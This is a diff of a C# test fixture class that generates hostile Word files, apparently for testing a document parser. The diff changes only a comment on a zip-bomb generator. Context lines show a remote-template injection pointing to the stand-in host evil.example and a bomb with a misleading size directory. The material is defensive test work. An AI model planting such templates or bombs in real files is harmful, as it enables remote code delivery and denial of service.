@@ -50,7 +50,7 @@ public static class HostileFiles
     public static byte[] RemoteTemplate() => Word(more: ("word/_rels/settings.xml.rels", Bytes(
         """<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>""")));
 
-    /// <summary>400 MB of zeros in some 400 KB.</summary>
+    /// <summary>200 MB of zeros in a hundredth of that.</summary>
     public static byte[] Bomb() => Word(more: ("word/media/a.bin", new byte[200 * 1024 * 1024]));
 
     /// <summary>The bomb, but its directory says that it is small.</summary>
